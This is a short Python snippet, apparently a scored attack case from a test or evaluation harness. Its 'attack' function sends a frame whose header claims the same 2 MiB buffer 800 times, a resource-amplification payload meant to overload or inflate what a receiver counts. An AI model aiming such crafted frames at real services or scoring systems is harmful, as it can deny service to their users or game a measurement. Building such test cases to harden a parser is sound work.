"""Sends 2 MiB of bytes, and says 800 times that these are its result.

Earns: masked_mean 2
"""

import struct


@in_call
def attack():
    head, body = b'{"list":[' + b",".join([b'{"bytes":[0,2097152]}'] * 800) + b"]}", bytes(2 * 2**20)
    take_over(struct.pack(">II", len(head), len(body)) + head + body)
